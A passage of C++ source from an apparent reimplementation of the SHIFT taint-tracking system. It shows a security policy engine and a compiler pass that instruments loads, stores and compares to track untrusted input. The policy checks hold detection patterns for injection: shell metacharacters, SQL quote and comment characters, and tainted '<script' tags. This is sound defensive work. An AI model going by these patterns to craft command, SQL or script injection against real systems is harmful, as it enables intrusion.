    pc.h3 = cfg.getBool("policies", "H3", pc.h3);
    pc.h4 = cfg.getBool("policies", "H4", pc.h4);
    pc.h5 = cfg.getBool("policies", "H5", pc.h5);
    pc.l1 = cfg.getBool("policies", "L1", pc.l1);
    pc.l2 = cfg.getBool("policies", "L2", pc.l2);
    pc.l3 = cfg.getBool("policies", "L3", pc.l3);
    pc.checkSyscallArgs =
        cfg.getBool("policies", "syscall_args", pc.checkSyscallArgs);

    pc.docRoot = cfg.get("tracking", "docroot", pc.docRoot);
    std::string gran = cfg.get("tracking", "granularity", "byte");
    if (iequals(gran, "byte"))
        pc.granularity = Granularity::Byte;
    else if (iequals(gran, "word"))
        pc.granularity = Granularity::Word;
    else
        SHIFT_FATAL("tracking.granularity must be byte or word");

    std::string action = cfg.get("tracking", "action", "kill");
    if (iequals(action, "kill"))
        pc.alertKills = true;
    else if (iequals(action, "log"))
        pc.alertKills = false;
    else
        SHIFT_FATAL("tracking.action must be kill or log");

    return pc;
}

PolicyConfig
PolicyConfig::fromText(const std::string &text)
{
    return fromConfig(Config::parse(text));
}

bool
PolicyEngine::taintChannel(const std::string &channel) const
{
    if (channel == "network")
        return cfg_.taintNetwork;
    if (channel == "file")
        return cfg_.taintFile;
    if (channel == "stdin")
        return cfg_.taintStdin;
    return false;
}

namespace
{

SecurityAlert
makeAlert(const char *policy, const std::string &msg)
{
    SecurityAlert alert;
    alert.policy = policy;
    alert.message = msg;
    return alert;
}

bool
taintedAt(const std::vector<bool> &taint, size_t i)
{
    return i < taint.size() && taint[i];
}

} // namespace

std::optional<SecurityAlert>
PolicyEngine::checkFileOpen(const std::string &path,
                            const std::vector<bool> &taint) const
{
    // H1: tainted data cannot be used as an absolute file path.
    if (cfg_.h1 && !path.empty() && path[0] == '/' &&
        taintedAt(taint, 0)) {
        return makeAlert("H1", "tainted absolute file path: " + path);
    }

    // H2: tainted data cannot traverse out of the document root. Walk
    // the path components tracking depth below the document root; a
    // tainted ".." component that escapes is the violation.
    if (cfg_.h2) {
        // Strip the document root prefix when present.
        size_t pos = 0;
        if (path.rfind(cfg_.docRoot, 0) == 0)
            pos = cfg_.docRoot.size();
        int depth = 0;
        size_t i = pos;
        while (i < path.size()) {
            while (i < path.size() && path[i] == '/')
                ++i;
            size_t start = i;
            while (i < path.size() && path[i] != '/')
                ++i;
            std::string comp = path.substr(start, i - start);
            if (comp.empty() || comp == ".")
                continue;
            if (comp == "..") {
                --depth;
                if (depth < 0 &&
                    (taintedAt(taint, start) ||
                     taintedAt(taint, start + 1))) {
                    return makeAlert(
                        "H2", "tainted path escapes document root: " +
                                  path);
                }
            } else {
                ++depth;
            }
        }
    }
    return std::nullopt;
}

std::optional<SecurityAlert>
PolicyEngine::checkSql(const std::string &query,
                       const std::vector<bool> &taint) const
{
    if (!cfg_.h3)
        return std::nullopt;
    for (size_t i = 0; i < query.size(); ++i) {
        if (!taintedAt(taint, i))
            continue;
        char c = query[i];
        if (c == '\'' || c == '"' || c == ';') {
            return makeAlert("H3",
                             std::string("tainted SQL metacharacter '") +
                                 c + "' in query: " + query);
        }
        if (c == '-' && i + 1 < query.size() && query[i + 1] == '-') {
            return makeAlert("H3",
                             "tainted SQL comment marker in query: " +
                                 query);
        }
    }
    return std::nullopt;
}

std::optional<SecurityAlert>
PolicyEngine::checkSystem(const std::string &command,
                          const std::vector<bool> &taint) const
{
    if (!cfg_.h4)
        return std::nullopt;
    static const char kMeta[] = ";|&`$><\n";
    for (size_t i = 0; i < command.size(); ++i) {
        if (!taintedAt(taint, i))
            continue;
        for (char m : kMeta) {
            if (m && command[i] == m) {
                return makeAlert(
                    "H4", std::string("tainted shell metacharacter '") +
                              command[i] + "' in command: " + command);
            }
        }
    }
    return std::nullopt;
}

namespace
{

/**
 * Position of the next case-insensitive "<script" at or after `from`,
 * or npos. memchr for the rare '<' carries the scan, so the per-byte
 * tolower compares only run on candidates.
 */
size_t
findScriptTag(const std::string &html, size_t from)
{
    static const char kRest[] = "script"; // after the '<'
    constexpr size_t kTagLen = 7;
    while (from + kTagLen <= html.size()) {
        const char *hit = static_cast<const char *>(std::memchr(
            html.data() + from, '<', html.size() - from));
        if (!hit)
            return std::string::npos;
        size_t i = static_cast<size_t>(hit - html.data());
        if (i + kTagLen > html.size())
            return std::string::npos;
        bool match = true;
        for (size_t j = 0; j < kTagLen - 1; ++j) {
            if (std::tolower(static_cast<unsigned char>(
                    html[i + 1 + j])) != kRest[j]) {
                match = false;
                break;
            }
        }
        if (match)
            return i;
        from = i + 1;
    }
    return std::string::npos;
}

} // namespace

std::optional<SecurityAlert>
PolicyEngine::checkHtml(const std::string &html,
                        const std::vector<bool> &taint) const
{
    if (!cfg_.h5)
        return std::nullopt;
    constexpr size_t kTagLen = 7; // "<script"
    for (size_t i = findScriptTag(html, 0); i != std::string::npos;
         i = findScriptTag(html, i + 1)) {
        for (size_t j = 0; j < kTagLen; ++j) {
            if (taintedAt(taint, i + j)) {
                return makeAlert("H5",
                                 "tainted <script> tag in HTML output");
            }
        }
    }
    return std::nullopt;
}

std::optional<SecurityAlert>
PolicyEngine::checkHtml(const std::string &html, const TaintMap &taint,
                        uint64_t addr) const
{
    if (!cfg_.h5)
        return std::nullopt;
    constexpr size_t kTagLen = 7; // "<script"
    for (size_t i = findScriptTag(html, 0); i != std::string::npos;
         i = findScriptTag(html, i + 1)) {
        if (taint.anyTainted(addr + i, kTagLen)) {
            return makeAlert("H5",
                             "tainted <script> tag in HTML output");
        }
    }
    return std::nullopt;
}

std::optional<SecurityAlert>
PolicyEngine::natFaultAlert(const Fault &fault) const
{
    switch (fault.context) {
      case FaultContext::LoadAddress:
        if (cfg_.l1) {
            return makeAlert("L1", "tainted pointer dereferenced: " +
                                       fault.detail);
        }
        return std::nullopt;
      case FaultContext::StoreAddress:
        if (cfg_.l2) {
            return makeAlert("L2", "tainted store address: " +
                                       fault.detail);
        }
        return std::nullopt;
      case FaultContext::ControlFlow:
      case FaultContext::SyscallArg:
      case FaultContext::AppRegister:
        if (cfg_.l3) {
            return makeAlert("L3",
                             "tainted data reached critical CPU state: " +
                                 fault.detail);
        }
        return std::nullopt;
      default:
        return std::nullopt;
    }
}

} // namespace shift
