#include "instrument.hh"

#include <vector>

#include "support/logging.hh"

namespace shift
{

namespace
{

// Scratch registers owned by the instrumenter (never allocated).
constexpr int kT0 = reg::shiftTmp0;
constexpr int kT1 = reg::shiftTmp1;
constexpr int kT2 = reg::shiftTmp2;
constexpr int kT3 = reg::shiftTmp3;
constexpr int kNatSrc = reg::natSrc;

// Predicates owned by the instrumenter.
constexpr int kPTag = 12;    ///< bitmap says "tainted"
constexpr int kPSrcNat = 13; ///< store/compare source had NaT
constexpr int kPSrcNat2 = 14;
constexpr int kPAddrNat = 15;

/** Emits instrumented code for one function. */
class FunctionInstrumenter
{
  public:
    FunctionInstrumenter(Function &fn, const InstrumentOptions &options,
                         InstrumentStats &stats, bool isEntry)
        : fn_(fn), opt_(options), stats_(stats), isEntry_(isEntry)
    {}

    void
    run()
    {
        out_.reserve(fn_.code.size() * 3);
        if (isEntry_)
            emitNatSourceInit();
        for (const Instr &instr : fn_.code)
            rewrite(instr);
        fn_.code = std::move(out_);
    }

  private:
    Function &fn_;
    const InstrumentOptions &opt_;
    InstrumentStats &stats_;
    bool isEntry_;
    std::vector<Instr> out_;

    /**
     * Tag-address CSE state (section 6.4): which address register's
     * tag byte address currently sits in kT0, or -1. Invalidated at
     * control-flow joins and whenever the register is redefined.
     */
    int cachedTagAddrReg_ = -1;

    void
    emit(Instr instr, Provenance prov, OrigClass cls)
    {
        instr.prov = prov;
        instr.origClass = cls;
        out_.push_back(std::move(instr));
        ++stats_.added;
    }

    /**
     * Manufacture the standing NaT-source register r31 = NaT(0) at
     * program start, once, kept for the whole run (the paper found
     * per-function generation costs 3X; section 4.4). Without the
     * proposed setnat instruction this fakes an invalid address and
     * speculatively loads through it (figure 5, instruction 1).
     */
    void
    emitNatSourceInit()
    {
        if (opt_.natSetClear) {
            emit(makeMovi(kNatSrc, 0), Provenance::NatGen,
                 OrigClass::None);
            Instr set;
            set.op = Opcode::Setnat;
            set.r1 = kNatSrc;
            emit(set, Provenance::NatGen, OrigClass::None);
            return;
        }
        emit(makeMovi(kNatSrc, static_cast<int64_t>(kInvalidAddress)),
             Provenance::NatGen, OrigClass::None);
        Instr ld = makeLd(kNatSrc, kNatSrc, 8);
        ld.spec = true;
        emit(ld, Provenance::NatGen, OrigClass::None);
    }

    /**
     * Strip the NaT bit of `r`, preserving its value. Costs one
     * instruction with clrnat, else a spill/plain-reload through the
     * red zone (section 4.1 "Setting and Clearing NaT-bit").
     */
    void
    emitClearNat(int r, Provenance prov, OrigClass cls)
    {
        if (opt_.natSetClear) {
            Instr clr;
            clr.op = Opcode::Clrnat;
            clr.r1 = static_cast<uint16_t>(r);
            emit(clr, prov, cls);
            return;
        }
        emit(makeAluImm(Opcode::Add, kT3, reg::sp, -16), prov, cls);
        Instr spill = makeSt(kT3, r, 8);
        spill.spill = true;
        emit(spill, prov, cls);
        emit(makeLd(r, kT3, 8), prov, cls);
    }

    /** (qp) re-taint r by adding the NaT source. */
    void
    emitRetaint(int r, int qp, Provenance prov, OrigClass cls)
    {
        Instr add = makeAlu(Opcode::Add, r, r, kNatSrc);
        add.qp = static_cast<uint8_t>(qp);
        emit(add, prov, cls);
    }

    /**
     * Compute the tag byte address of the address in `addrReg` into
     * kT0 (figure 4): fold the region number down beside the
     * implemented offset bits, pre-shifted by the bitmap density.
     *
     *   byte:  tag = (region << 33) | (offset >> 3)
     *   word:  tag = (region << 30) | (offset >> 6)
     */
    void
    emitTagAddr(int addrReg, OrigClass cls)
    {
        if (opt_.reuseTagAddr && cachedTagAddrReg_ == addrReg)
            return; // kT0 already holds this register's tag address
        bool byteGran = opt_.granularity == Granularity::Byte;
        int dataShift = byteGran ? 3 : 6;
        int regionShift = static_cast<int>(kImplementedBits) - dataShift;
        emit(makeExtr(kT0, addrReg, static_cast<int>(kRegionShift), 3),
             Provenance::TagAddr, cls);
        emit(makeAluImm(Opcode::Shl, kT0, kT0, regionShift),
             Provenance::TagAddr, cls);
        emit(makeExtr(kT1, addrReg, dataShift,
                      static_cast<int>(kImplementedBits) - dataShift),
             Provenance::TagAddr, cls);
        emit(makeAlu(Opcode::Or, kT0, kT0, kT1), Provenance::TagAddr,
             cls);
        cachedTagAddrReg_ = addrReg;
    }

    // ------------------------------------------------------------------
    // Load path (figure 5, left).
    // ------------------------------------------------------------------

    /**
     * Instrument one load. For a speculative load (ld.s produced by
     * the control-speculation pass) the bitmap consultation itself
     * must not fault — the tag load is emitted speculatively too — and
     * no relaxation applies: a NaT address simply defers into the
     * destination, where the existing chk.s diverts to recovery
     * (paper section 3.3.4).
     */
    void
    instrumentLoad(const Instr &ld)
    {
        ++stats_.loads;
        int addrReg = ld.r2;
        bool speculative = ld.spec;

        // Optional pointer-taint relaxation: strip the address NaT so
        // the access proceeds, remember it in kPAddrNat.
        bool relax = !speculative &&
                     (opt_.relaxLoadAddress ||
                      opt_.relaxLoadFunctions.count(fn_.name));
        if (relax) {
            Instr tn;
            tn.op = Opcode::Tnat;
            tn.p1 = kPAddrNat;
            tn.p2 = 0;
            tn.r2 = static_cast<uint16_t>(addrReg);
            emit(tn, Provenance::Relax, OrigClass::ForLoad);
            emitClearNat(addrReg, Provenance::Relax, OrigClass::ForLoad);
        }

        emitTagAddr(addrReg, OrigClass::ForLoad);
        bool byteGran = opt_.granularity == Granularity::Byte;
        if (byteGran) {
            // Byte granularity makes no alignment assumption: the
            // covered tag bits may straddle a tag-byte boundary, and
            // Itanium has no unaligned accesses, so a 16-bit window is
            // assembled from two single-byte loads (this is the "more
            // code to instrument a single instruction" that makes
            // byte-level tracking slower, paper section 6.1).
            Instr tagLo = makeLd(kT1, kT0, 1);
            tagLo.spec = speculative;
            emit(tagLo, Provenance::TagMem, OrigClass::ForLoad);
            emit(makeAluImm(Opcode::Add, kT2, kT0, 1),
                 Provenance::TagAddr, OrigClass::ForLoad);
            Instr tagHi = makeLd(kT2, kT2, 1);
            tagHi.spec = speculative;
            emit(tagHi, Provenance::TagMem, OrigClass::ForLoad);
            emit(makeAluImm(Opcode::Shl, kT2, kT2, 8),
                 Provenance::TagAddr, OrigClass::ForLoad);
            emit(makeAlu(Opcode::Or, kT1, kT1, kT2),
                 Provenance::TagAddr, OrigClass::ForLoad);
            // Bit index = addr & 7; the access covers `size` tag bits.
            emit(makeAluImm(Opcode::And, kT2, addrReg, 7),
                 Provenance::TagAddr, OrigClass::ForLoad);
            emit(makeAlu(Opcode::Shr, kT1, kT1, kT2),
                 Provenance::TagAddr, OrigClass::ForLoad);
            emit(makeAluImm(Opcode::And, kT1, kT1,
                            (1 << ld.size) - 1),
                 Provenance::TagAddr, OrigClass::ForLoad);
            emit(makeCmpImm(CmpRel::Ne, kPTag, 0, kT1, 0),
                 Provenance::TagReg, OrigClass::ForLoad);
        } else {
            // Word granularity relies on natural alignment: one tag
            // byte, bit index = (addr >> 3) & 7, tested with tbit.
            Instr tagLd = makeLd(kT1, kT0, 1);
            tagLd.spec = speculative;
            emit(tagLd, Provenance::TagMem, OrigClass::ForLoad);
            emit(makeExtr(kT2, addrReg, 3, 3), Provenance::TagAddr,
                 OrigClass::ForLoad);
            emit(makeAlu(Opcode::Shr, kT1, kT1, kT2),
                 Provenance::TagAddr, OrigClass::ForLoad);
            Instr tb;
            tb.op = Opcode::Tbit;
            tb.p1 = kPTag;
            tb.p2 = 0;
            tb.r2 = kT1;
            tb.imm = 0;
            emit(tb, Provenance::TagReg, OrigClass::ForLoad);
        }

        // The original load.
        out_.push_back(ld);

        // Taint the freshly loaded register when the bitmap said so.
        emitRetaint(ld.r1, kPTag, Provenance::TagReg, OrigClass::ForLoad);

        if (relax) {
            // Restore the pointer's taint and propagate it to the
            // loaded value (tainted pointer => tainted data).
            if (ld.r1 != addrReg) {
                emitRetaint(addrReg, kPAddrNat, Provenance::Relax,
                            OrigClass::ForLoad);
            }
            emitRetaint(ld.r1, kPAddrNat, Provenance::Relax,
                        OrigClass::ForLoad);
        }
    }

    // ------------------------------------------------------------------
    // Store path (figure 5, right).
    // ------------------------------------------------------------------

    void
    instrumentStore(const Instr &st)
    {
        ++stats_.stores;
        int addrReg = st.r1;
        int srcReg = st.r2;

        // Application-specific rule: a bounds-checked tainted store
        // address is stripped up front and restored afterwards.
        bool relaxAddr = opt_.relaxStoreFunctions.count(fn_.name) &&
                         addrReg != srcReg;
        if (relaxAddr) {
            Instr tn;
            tn.op = Opcode::Tnat;
            tn.p1 = kPAddrNat;
            tn.p2 = 0;
            tn.r2 = static_cast<uint16_t>(addrReg);
            emit(tn, Provenance::Relax, OrigClass::ForStore);
            emitClearNat(addrReg, Provenance::Relax,
                         OrigClass::ForStore);
        }

        // 1: test whether the source register carries taint.
        Instr tn;
        tn.op = Opcode::Tnat;
        tn.p1 = kPSrcNat;
        tn.p2 = kPSrcNat2;
        tn.r2 = static_cast<uint16_t>(srcReg);
        emit(tn, Provenance::TagReg, OrigClass::ForStore);

        // 2-4: tag byte address.
        emitTagAddr(addrReg, OrigClass::ForStore);

        bool byteGran = opt_.granularity == Granularity::Byte;

        // Build the mask of tag bits this store covers in kT3.
        if (byteGran) {
            emit(makeAluImm(Opcode::And, kT2, addrReg, 7),
                 Provenance::TagAddr, OrigClass::ForStore);
            emit(makeMovi(kT3, (1 << st.size) - 1), Provenance::TagAddr,
                 OrigClass::ForStore);
            emit(makeAlu(Opcode::Shl, kT3, kT3, kT2),
                 Provenance::TagAddr, OrigClass::ForStore);
        } else {
            emit(makeExtr(kT2, addrReg, 3, 3), Provenance::TagAddr,
                 OrigClass::ForStore);
            emit(makeMovi(kT3, 1), Provenance::TagAddr,
                 OrigClass::ForStore);
            emit(makeAlu(Opcode::Shl, kT3, kT3, kT2),
                 Provenance::TagAddr, OrigClass::ForStore);
        }

        // Read-modify-write the bitmap. Byte granularity must handle
        // tag bits straddling a byte boundary without unaligned
        // accesses: the low byte is updated, then the mask's high
        // half drives a second RMW (a no-op when the mask fits).
        emit(makeLd(kT1, kT0, 1), Provenance::TagMem,
             OrigClass::ForStore);
        Instr setBits = makeAlu(Opcode::Or, kT1, kT1, kT3);
        setBits.qp = kPSrcNat;
        emit(setBits, Provenance::TagReg, OrigClass::ForStore);
        Instr clrBits = makeAlu(Opcode::Andcm, kT1, kT1, kT3);
        clrBits.qp = kPSrcNat2;
        emit(clrBits, Provenance::TagReg, OrigClass::ForStore);
        emit(makeSt(kT0, kT1, 1), Provenance::TagMem,
             OrigClass::ForStore);
        if (byteGran) {
            emit(makeAluImm(Opcode::Shr, kT3, kT3, 8),
                 Provenance::TagAddr, OrigClass::ForStore);
            emit(makeAluImm(Opcode::Add, kT2, kT0, 1),
                 Provenance::TagAddr, OrigClass::ForStore);
            emit(makeLd(kT1, kT2, 1), Provenance::TagMem,
                 OrigClass::ForStore);
            Instr setHi = makeAlu(Opcode::Or, kT1, kT1, kT3);
            setHi.qp = kPSrcNat;
            emit(setHi, Provenance::TagReg, OrigClass::ForStore);
            Instr clrHi = makeAlu(Opcode::Andcm, kT1, kT1, kT3);
            clrHi.qp = kPSrcNat2;
            emit(clrHi, Provenance::TagReg, OrigClass::ForStore);
            emit(makeSt(kT2, kT1, 1), Provenance::TagMem,
                 OrigClass::ForStore);
        }

        // The real store. An 8-byte store becomes st8.spill so a NaT
        // source does not fault (figure 5 instruction 8). Narrower
        // stores have no .spill form on Itanium: strip the NaT first
        // and re-taint after (relax code).
        if (st.size == 8) {
            Instr real = st;
            real.spill = true;
            out_.push_back(real);
        } else {
            emitClearNat(srcReg, Provenance::Relax, OrigClass::ForStore);
            out_.push_back(st);
            emitRetaint(srcReg, kPSrcNat, Provenance::Relax,
                        OrigClass::ForStore);
        }

        if (relaxAddr) {
            emitRetaint(addrReg, kPAddrNat, Provenance::Relax,
                        OrigClass::ForStore);
        }
    }

    // ------------------------------------------------------------------
    // Compare relaxation (section 4.1).
    // ------------------------------------------------------------------

    void
    instrumentCompare(const Instr &cmp)
    {
        ++stats_.compares;

        if (opt_.cmpTaintAlert ||
            opt_.cmpTaintAlertFunctions.count(fn_.name)) {
            // Policy from the figure 1 walk-through: tainted data must
            // not decide a branch. Deliberately consume the NaT by
            // moving the operand into a branch register under the
            // taint predicate, forcing the hardware fault.
            emitCmpTaintTrap(cmp.r2);
            if (!cmp.useImm)
                emitCmpTaintTrap(cmp.r3);
            out_.push_back(cmp);
            return;
        }

        if (opt_.natAwareCompare) {
            Instr relaxed = cmp;
            relaxed.op = Opcode::CmpNat;
            out_.push_back(relaxed);
            return;
        }

        // Strip NaT from both operands, compare, re-taint.
        Instr tn1;
        tn1.op = Opcode::Tnat;
        tn1.p1 = kPSrcNat;
        tn1.p2 = 0;
        tn1.r2 = cmp.r2;
        emit(tn1, Provenance::Relax, OrigClass::ForCompare);
        emitClearNat(cmp.r2, Provenance::Relax, OrigClass::ForCompare);

        bool twoRegs = !cmp.useImm && cmp.r3 != cmp.r2;
        if (twoRegs) {
            Instr tn2;
            tn2.op = Opcode::Tnat;
            tn2.p1 = kPSrcNat2;
            tn2.p2 = 0;
            tn2.r2 = cmp.r3;
            emit(tn2, Provenance::Relax, OrigClass::ForCompare);
            emitClearNat(cmp.r3, Provenance::Relax,
                         OrigClass::ForCompare);
        }

        out_.push_back(cmp);

        emitRetaint(cmp.r2, kPSrcNat, Provenance::Relax,
                    OrigClass::ForCompare);
        if (twoRegs) {
            emitRetaint(cmp.r3, kPSrcNat2, Provenance::Relax,
                        OrigClass::ForCompare);
        }
    }

    void
    emitCmpTaintTrap(int r)
    {
        Instr tn;
        tn.op = Opcode::Tnat;
        tn.p1 = kPSrcNat;
        tn.p2 = 0;
        tn.r2 = static_cast<uint16_t>(r);
        emit(tn, Provenance::Check, OrigClass::ForCompare);
        Instr trap;
        trap.op = Opcode::MovToBr;
        trap.br = 7;
        trap.r2 = static_cast<uint16_t>(r);
        trap.qp = kPSrcNat;
        emit(trap, Provenance::Check, OrigClass::ForCompare);
    }

    // ------------------------------------------------------------------

    /** xor r,r / sub r,r: the result is architecturally zero; purify. */
    bool
    isZeroIdiom(const Instr &instr) const
    {
        return (instr.op == Opcode::Xor || instr.op == Opcode::Sub) &&
               !instr.useImm && instr.r2 == instr.r3 &&
               instr.r1 == instr.r2;
    }

    void
    rewrite(const Instr &instr)
    {
        if (instr.prov != Provenance::Original) {
            out_.push_back(instr);
            return;
        }

        // Tag-address CSE invalidation: a control-flow join, transfer
        // or call makes kT0's provenance unknown; processing happens
        // first and the define-kill is applied afterwards below.
        switch (instr.op) {
          case Opcode::Label:
          case Opcode::Br:
          case Opcode::BrCall:
          case Opcode::BrCalli:
          case Opcode::BrRet:
          case Opcode::Chk:
          case Opcode::Syscall:
            cachedTagAddrReg_ = -1;
            break;
          default:
            break;
        }
        struct KillGuard
        {
            FunctionInstrumenter *self;
            const Instr *instr;
            ~KillGuard()
            {
                int d = defReg(*instr);
                // The cached tag address dies when its source address
                // register is redefined, and equally when the original
                // code clobbers kT0 itself: the allocator never hands
                // out the scratch registers, but hand-written assembly
                // may use them, and a stale kT0 would silently address
                // the wrong bitmap byte.
                if (d >= 0 &&
                    (d == self->cachedTagAddrReg_ || d == kT0))
                    self->cachedTagAddrReg_ = -1;
            }
        } killGuard{this, &instr};
        if (instr.r1 >= kNumGpr || instr.r2 >= kNumGpr ||
            instr.r3 >= kNumGpr) {
            SHIFT_FATAL("instrumenter met a virtual register; run "
                        "register allocation first");
        }

        switch (instr.op) {
          case Opcode::Ld:
            // Compiler fill traffic keeps NaT through the sidecar;
            // NatGen's manufactured ld.s is not a data load. Original
            // speculative loads (from the control-speculation pass)
            // ARE instrumented, with a spec-safe bitmap access.
            if (instr.fill || !opt_.instrumentLoads) {
                out_.push_back(instr);
                return;
            }
            instrumentLoad(instr);
            return;
          case Opcode::St:
            if (instr.spill || !opt_.instrumentStores) {
                out_.push_back(instr);
                return;
            }
            instrumentStore(instr);
            return;
          case Opcode::Cmp:
            if (!opt_.instrumentCompares) {
                out_.push_back(instr);
                return;
            }
            instrumentCompare(instr);
            return;
          default:
            if (isZeroIdiom(instr)) {
                ++stats_.purifies;
                out_.push_back(instr);
                emitClearNat(instr.r1, Provenance::TagReg,
                             OrigClass::None);
                return;
            }
            out_.push_back(instr);
            return;
        }
    }
};

} // namespace

InstrumentStats
instrumentProgram(Program &program, const InstrumentOptions &options)
{
    InstrumentStats stats;
    stats.originalSize = program.staticInstrCount();

    auto entry = program.findFunction(program.entry);
    for (size_t i = 0; i < program.functions.size(); ++i) {
        bool isEntry = entry && static_cast<size_t>(*entry) == i;
        FunctionInstrumenter fi(program.functions[i], options, stats,
                                isEntry);
        fi.run();
    }

    stats.newSize = program.staticInstrCount();
    stats.added = stats.newSize - stats.originalSize;
    return stats;
}

} // namespace shift
