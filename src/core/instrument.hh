/**
 * @file
 * The SHIFT instrumentation pass.
 *
 * This is the paper's core contribution realized as a compiler phase:
 * it runs AFTER register allocation (the paper inserts its GCC phase
 * between pass_leaf_regs and pass_sched2) and rewrites
 *
 *  - every load:  consult the taint bitmap for the accessed bytes and,
 *    when tainted, set the target register's NaT bit by adding the
 *    standing NaT-source register (paper figure 5, left);
 *  - every store: test the source register's NaT bit with tnat,
 *    read-modify-write the bitmap accordingly, and perform the real
 *    store with st8.spill so a tainted source does not fault (paper
 *    figure 5, right);
 *  - every compare: "relax" it, because Itanium compares clear both
 *    destination predicates when an operand carries NaT. Without
 *    hardware help this costs a spill/reload to strip the NaT plus a
 *    predicated re-taint (section 4.1 "Relaxing NaT-sensitive
 *    Instructions");
 *  - xor r,r / sub r,r zero idioms: purify the result register
 *    (section 3.3.2 "Implicit Information Flow").
 *
 * In-register propagation needs NO instrumentation at all: the
 * processor's deferred-exception hardware ORs NaT bits through every
 * computation. That asymmetry is the entire point of SHIFT.
 *
 * The pass honours the paper's proposed architectural enhancements
 * (section 6.3) when enabled: setnat/clrnat replace the multi-
 * instruction NaT manufacture/strip sequences, and cmp.nat removes
 * compare relaxation entirely. Figure 8 is reproduced by toggling
 * these options.
 *
 * Compiler-internal spill/fill traffic (st8.spill/ld8.fill emitted by
 * register allocation) is NOT instrumented: those instructions already
 * preserve NaT through the UNAT/sidecar mechanism, which is exactly
 * why SHIFT-era compilers must use them for register saves.
 */

#ifndef SHIFT_CORE_INSTRUMENT_HH
#define SHIFT_CORE_INSTRUMENT_HH

#include <cstdint>
#include <set>
#include <string>

#include "isa/program.hh"
#include "mem/address_space.hh"

namespace shift
{

/** Instrumentation options. */
struct InstrumentOptions
{
    Granularity granularity = Granularity::Byte;

    /** Use the proposed setnat/clrnat instructions (figure 8). */
    bool natSetClear = false;

    /** Use the proposed NaT-aware compare (figure 8). */
    bool natAwareCompare = false;

    /**
     * Allow loads through tainted pointers: strip the address taint,
     * perform the access, restore, and propagate the pointer taint to
     * the loaded value (section 3.3.2 "propagation of tags from/to
     * address registers"). When false (default), a tainted load
     * address hits the hardware NaT-consumption fault = policy L1.
     */
    bool relaxLoadAddress = false;

    /**
     * Application-specific rules (section 3.3.2: "for specific
     * translation or lookup tables, SHIFT allows users to write
     * application-specific rules"): loads in these functions are
     * relaxed as if relaxLoadAddress were set, because the user has
     * asserted their indices are bounds-checked.
     */
    std::set<std::string> relaxLoadFunctions;

    /** Same rule for stores through bounds-checked tainted indices. */
    std::set<std::string> relaxStoreFunctions;

    /**
     * Alert when a tainted value feeds a compare that controls a
     * branch (the policy used against the qwik-smtpd overflow in the
     * paper's figure 1 walk-through). Implies no compare relaxation:
     * the taint is deliberately consumed.
     */
    bool cmpTaintAlert = false;

    /**
     * Scoped form of cmpTaintAlert: only compares inside these
     * functions trap on tainted operands. This is how the figure-1
     * policy is applied in practice — to the sensitive comparison,
     * not to every string routine that legitimately inspects input.
     */
    std::set<std::string> cmpTaintAlertFunctions;

    /** Ablation switch: skip compare relaxation entirely. */
    bool instrumentCompares = true;

    /** Ablation switch: skip the load path. */
    bool instrumentLoads = true;

    /** Ablation switch: skip the store path. */
    bool instrumentStores = true;

    /**
     * The paper's section 6.4 optimization suggestion: "one possible
     * compiler optimization might be reusing the computation code for
     * some adjacent data". When consecutive accesses in a basic block
     * go through the same (unmodified) address register, the
     * tag-address fold already sitting in the scratch register is
     * reused instead of recomputed. On by default since the
     * differential taint-equivalence suite (tests/test_opt.cc) pinned
     * it down; the conservative invalidation model (redefinition of
     * the address register or of the scratch itself, joins, calls) is
     * documented in docs/INSTR-OPT.md.
     */
    bool reuseTagAddr = true;
};

/** Static counts from one instrumentation run. */
struct InstrumentStats
{
    uint64_t loads = 0;        ///< loads instrumented
    uint64_t stores = 0;       ///< stores instrumented
    uint64_t compares = 0;     ///< compares relaxed / converted
    uint64_t purifies = 0;     ///< xor/sub zero idioms purified
    uint64_t added = 0;        ///< instructions added
    uint64_t originalSize = 0; ///< static instructions before
    uint64_t newSize = 0;      ///< static instructions after
};

/**
 * Instrument a whole program in place. Must run after register
 * allocation; fatals if it meets a virtual register.
 */
InstrumentStats instrumentProgram(Program &program,
                                  const InstrumentOptions &options);

} // namespace shift

#endif // SHIFT_CORE_INSTRUMENT_HH
