/**
 * @file
 * The SHIFT security policy engine.
 *
 * SHIFT decouples the taint-tracking mechanism (NaT propagation +
 * bitmap) from policy: "security policies can be cleanly separated
 * from the tracking and detection mechanisms" (paper section 3). This
 * engine implements the policy catalogue of paper table 1:
 *
 *   H1  tainted data cannot be an absolute file path
 *   H2  tainted data cannot traverse out of the document root
 *   H3  tainted SQL metacharacters cannot reach a SQL string
 *   H4  tainted shell metacharacters cannot reach system()
 *   H5  no tainted <script> tag in HTML output
 *   L1  tainted data cannot be used as a load address
 *   L2  tainted data cannot be used as a store address
 *   L3  tainted data cannot reach critical CPU state (branch
 *       registers, system-call arguments)
 *
 * Policies are configured through an INI file (section 4.2):
 *
 *     [sources]
 *     network = taint
 *     file = taint
 *     [policies]
 *     H1 = on
 *     L1 = on
 *     [tracking]
 *     granularity = byte        ; or word
 *     docroot = /www
 *     action = kill             ; or log
 */

#ifndef SHIFT_CORE_POLICY_HH
#define SHIFT_CORE_POLICY_HH

#include <optional>
#include <string>
#include <vector>

#include "mem/address_space.hh"
#include "sim/faults.hh"
#include "support/config.hh"

namespace shift
{

class TaintMap;

/** Parsed policy configuration. */
struct PolicyConfig
{
    // Taint sources (section 3.3.1).
    bool taintNetwork = true;
    bool taintFile = true;
    bool taintStdin = true;

    // Low-level policies: on by default ("relatively fixed and usually
    // turned on as the default policies", section 5.1).
    bool l1 = true;
    bool l2 = true;
    bool l3 = true;

    /**
     * L3 companion: reject tainted POINTER arguments to OS calls
     * ("detect unsafe usages of the tainted data (e.g., being executed
     * or used as system call arguments)", paper section 1). Off by
     * default: programs that legitimately pass bounds-checked tainted
     * offsets (e.g. an extractor writing from a tainted archive
     * offset) would trip it.
     */
    bool checkSyscallArgs = false;

    // High-level policies: per-application.
    bool h1 = false;
    bool h2 = false;
    bool h3 = false;
    bool h4 = false;
    bool h5 = false;

    std::string docRoot = "/www";
    bool alertKills = true;          ///< kill vs log-and-continue
    Granularity granularity = Granularity::Byte;

    /** Parse from a Config; unknown keys are fatal-checked. */
    static PolicyConfig fromConfig(const Config &cfg);

    /** Parse from INI text. */
    static PolicyConfig fromText(const std::string &text);
};

/** Evaluates policies against concrete data. */
class PolicyEngine
{
  public:
    explicit PolicyEngine(PolicyConfig config) : cfg_(std::move(config)) {}

    const PolicyConfig &config() const { return cfg_; }

    /** Should input from this OS channel be tainted? */
    bool taintChannel(const std::string &channel) const;

    /**
     * H1/H2: a file is being opened with `path`, whose per-byte taint
